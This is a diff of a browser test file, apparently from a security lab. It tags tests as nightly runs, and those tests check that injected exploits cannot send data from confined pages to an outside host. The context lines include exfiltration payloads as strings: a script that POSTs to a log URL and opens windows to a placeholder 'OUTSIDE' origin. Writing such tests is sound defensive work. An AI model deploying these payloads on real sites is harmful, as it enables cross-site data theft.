@@ -39,7 +39,10 @@ test('without a policy, each kind does reach another host', async ({ page }) => 
 
 // From every ground, in each engine: npm run engines -- --confined.
 for (const { attack, where } of confinedGrounds.filter(({ attack }) => attack === 'csrf-get')) {
-  test(`nothing that a policy can hold back leaves the lab from ${where}`, async ({ page, server }) => {
+  test(`nothing that a policy can hold back leaves the lab from ${where}`, { tag: '@nightly' }, async ({
+    page,
+    server,
+  }) => {
     const exploit = outwardExploit(outside.address);
     const { log } = await performAttack(page, server, { attack, exploit });
     expect(log.map(({ text }) => text)).toContain(lastWords);
@@ -66,7 +69,8 @@ for (const [name, script] of [
   ],
   ['a new window', `window.open('OUTSIDE/window')`],
 ] as const) {
-  test(`an exploit that needs no top level cannot send ${name} elsewhere`, async ({ page, server }) => {
+  const tag = name === 'its own frame' ? [] : '@nightly';
+  test(`an exploit that needs no top level cannot send ${name} elsewhere`, { tag }, async ({ page, server }) => {
     const first = `fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: '${lastWords}' })`;
     const exploit = `<script>${first}.finally(() => { ${script.replaceAll('OUTSIDE', outside.address.origin)} })</script>`;
     const { log } = await performAttack(page, server, { attack: 'csrf-image', exploit });
